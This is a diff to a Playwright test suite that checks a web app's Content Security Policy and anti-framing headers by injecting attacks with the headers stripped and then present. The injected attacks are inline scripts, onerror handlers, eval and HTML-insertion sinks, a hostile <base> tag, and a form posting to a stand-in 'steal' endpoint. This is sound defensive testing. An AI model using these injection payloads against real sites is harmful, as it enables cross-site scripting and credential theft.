@@ -3,9 +3,9 @@ import type { Page } from 'playwright/test';
 import { expect, test } from '../support/fixtures';
 
 const STRANGER = 'http://stranger.example';
-const LOADED = { contentType: 'text/html', body: '<title>Stranger</title>' };
 const MARK = "document.documentElement.dataset.hacked = 'yes';";
 
+/** Serves `path` with `markup` in its head and without some headers. */
 async function poison(page: Page, path: string, markup: string, without: string[]): Promise<void> {
   await page.route(path, async (route) => {
     const response = await route.fetch();
@@ -18,124 +18,91 @@ async function poison(page: Page, path: string, markup: string, without: string[
 }
 
 /** Acts as a third-party server, and returns the requests it gets. */
-async function stranger(page: Page, body = ''): Promise<string[]> {
-  const asked: string[] = [];
+async function stranger(page: Page, body: string): Promise<string[]> {
+  const requests: string[] = [];
+  const contentType = body.startsWith('<') ? 'text/html' : 'text/javascript';
   await page.route(`${STRANGER}/**`, async (route) => {
-    asked.push(`${route.request().method()} ${route.request().url()}`);
-    await route.fulfill({
-      ...LOADED,
-      body,
-      contentType: body.startsWith('<') ? 'text/html' : 'text/javascript',
-    });
+    requests.push(`${route.request().method()} ${route.request().url()}`);
+    await route.fulfill({ body, contentType });
   });
-  return asked;
+  return requests;
 }
 
-const hacked = (page: Page) =>
-  page.evaluate(() => document.documentElement.dataset.hacked ?? 'no').catch(() => 'away');
+const IMAGE = JSON.stringify(`<img src="/nothing.png" onerror="${MARK}">`);
+/** Scripts of our own that an attacker could abuse. */
+const WEAK_SCRIPTS = {
+  '/assets/eval.js': `eval(${JSON.stringify(MARK)})`,
+  '/assets/markup.js': `document.documentElement.insertAdjacentHTML('beforeend', ${IMAGE})`,
+};
 
-interface Attack {
-  name: string;
-  markup: string;
-  stopped: string;
-  act?: (page: Page) => Promise<void>;
-  /** Resolves to "yes" once the attack has succeeded. */
-  outcome: (page: Page, asked: string[]) => Promise<string>;
-}
+/** Runs in the page. */
+const postElsewhere = (address: string) => {
+  const form = document.createElement('form');
+  form.method = 'post';
+  form.action = address;
+  document.body.append(form);
+  form.submit();
+};
 
-const attacks: Attack[] = [
-  {
-    name: 'an inline script',
-    markup: `<script>${MARK}</script>`,
-    stopped: 'script-src-elem inline',
-    outcome: hacked,
-  },
-  {
-    name: 'an inline event handler',
-    markup: `<link rel="stylesheet" href="/nothing.css" onerror="${MARK}">`,
-    stopped: 'script-src-attr inline',
-    outcome: hacked,
-  },
-  {
-    name: 'eval in our own script',
-    markup: '<script src="/assets/weak.js"></script>',
-    stopped: 'require-trusted-types-for trusted-types-sink',
-    outcome: hacked,
-  },
-  {
-    name: 'markup written by our own script',
-    markup: '<script src="/assets/weaker.js"></script>',
-    stopped: 'require-trusted-types-for trusted-types-sink',
-    outcome: hacked,
-  },
-  {
-    name: 'a third-party script',
-    markup: `<script src="${STRANGER}/evil.js"></script>`,
-    stopped: `script-src-elem ${STRANGER}/evil.js`,
-    outcome: hacked,
-  },
-  {
-    name: 'a <base> that sends relative URLs to another site',
-    markup: `<base href="${STRANGER}/">`,
-    stopped: `base-uri ${STRANGER}/`,
-    outcome: async (page) =>
-      (await page.evaluate(() => document.baseURI)).startsWith(STRANGER) ? 'yes' : 'no',
-  },
-  {
-    name: 'a form that sends a password to another site',
-    markup: '',
-    stopped: `form-action ${STRANGER}/steal`,
-    act: async (page) => {
-      await page.evaluate((address) => {
-        const form = document.createElement('form');
-        form.method = 'post';
-        form.action = address;
-        document.body.append(form);
-        form.submit();
-      }, `${STRANGER}/steal`);
-    },
-    outcome: async (_, asked) => (asked.some((line) => line.startsWith('POST')) ? 'yes' : 'no'),
-  },
+const attacks: readonly (readonly [name: string, markup: string, violation: string])[] = [
+  ['an inline script', `<script>${MARK}</script>`, 'script-src-elem inline'],
+  [
+    'an inline event handler',
+    `<link rel="stylesheet" href="/nothing.css" onerror="${MARK}">`,
+    'script-src-attr inline',
+  ],
+  ...Object.keys(WEAK_SCRIPTS).map(
+    (path) =>
+      [
+        `our own script ${path}`,
+        `<script src="${path}"></script>`,
+        'require-trusted-types-for trusted-types-sink',
+      ] as const,
+  ),
+  [
+    'a third-party script',
+    `<script src="${STRANGER}/evil.js"></script>`,
+    `script-src-elem ${STRANGER}/evil.js`,
+  ],
+  [
+    'a <base> that sends relative URLs to another site',
+    `<base href="${STRANGER}/">`,
+    `base-uri ${STRANGER}/`,
+  ],
+  ['a form that sends a password to another site', '', `form-action ${STRANGER}/steal`],
 ];
 
-async function weakScripts(page: Page): Promise<void> {
-  const script = (body: string) => ({ contentType: 'text/javascript', body });
-  await page.route('/assets/weak.js', (route) =>
-    route.fulfill(script(`eval(${JSON.stringify(MARK)})`)),
-  );
-  const image = `<img src="/nothing.png" onerror="${MARK}">`;
-  await page.route('/assets/weaker.js', (route) =>
-    route.fulfill(
-      script(`document.documentElement.insertAdjacentHTML('beforeend', ${JSON.stringify(image)})`),
-    ),
-  );
-}
-
-for (const { name, markup, stopped, act, outcome } of attacks)
+for (const [name, markup, violation] of attacks)
   test(`the policy stops ${name}; without the policy, the attack succeeds`, {
     tag: '@F62',
-  }, async ({ page, watch }) => {
+  }, async ({ page, context, watch }) => {
     watch.allow(/./);
-    const visit = async (tab: Page, without: string[]): Promise<string[]> => {
-      await weakScripts(tab);
-      const asked = await stranger(tab, MARK);
+    const attack = async (tab: Page, without: string[]) => {
+      for (const [path, body] of Object.entries(WEAK_SCRIPTS))
+        await tab.route(path, (route) => route.fulfill({ contentType: 'text/javascript', body }));
+      const requests = await stranger(tab, MARK);
       await poison(tab, '/about', markup, without);
       await tab.goto('/about');
-      await act?.(tab);
-      return asked;
+      if (markup === '') await tab.evaluate(postElsewhere, `${STRANGER}/steal`);
+      const isHacked = (stranger: string) =>
+        document.documentElement.dataset.hacked === 'yes' || document.baseURI.startsWith(stranger);
+      const succeeds = async () =>
+        requests.some((line) => line.startsWith('POST')) ||
+        // A page that's navigating away can't be read.
+        (await tab.evaluate(isHacked, STRANGER).catch(() => false));
+      return { requests, succeeds };
     };
-    const tab = await page.context().newPage();
-    const askedWithout = await visit(tab, ['content-security-policy']);
-    await expect.poll(() => outcome(tab, askedWithout)).toBe('yes');
+    const tab = await context.newPage();
+    await expect.poll((await attack(tab, ['content-security-policy'])).succeeds).toBe(true);
     await tab.close();
     expect(watch.violations).toEqual([]);
 
-    const asked = await visit(page, []);
-    await expect.poll(() => watch.violations).toContain(stopped);
+    const { requests, succeeds } = await attack(page, []);
+    await expect.poll(() => watch.violations).toContain(violation);
     // By the load event, everything on the page has run.
     await page.waitForLoadState('load');
-    expect(await outcome(page, asked)).toBe('no');
-    expect(asked).toEqual([]);
+    expect(await succeeds()).toBe(false);
+    expect(requests).toEqual([]);
   });
 
 test('either of two headers keeps other sites from framing the login; without both, framing works', {
@@ -147,9 +114,9 @@ test('either of two headers keeps other sites from framing the login; without bo
   const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
   for (const without of ['x-frame-options', 'content-security-policy']) {
     await poison(page, address, '', [without]);
-    const refused = page.waitForEvent('requestfailed');
+    const blocked = page.waitForEvent('requestfailed');
     await page.goto(`${STRANGER}/`);
-    const request = await refused;
+    const request = await blocked;
     expect(request.url()).toBe(address);
     expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
     await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
